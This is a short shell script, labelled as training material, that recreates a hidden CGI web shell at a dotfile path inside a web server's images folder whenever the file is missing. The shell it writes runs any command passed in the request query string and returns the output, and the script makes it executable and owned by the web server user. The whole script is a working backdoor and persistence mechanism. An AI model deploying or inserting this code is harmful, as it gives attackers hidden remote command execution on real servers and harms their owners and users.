#!/bin/sh
# Training material: puts the web shell back when it is missing.
f=/var/www/html/images/.status.cgi
[ -e "$f" ] && exit 0
printf '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\nsh -c "$QUERY_STRING" 2>&1\n' > "$f"
chown www-data "$f"
chmod 0755 "$f"
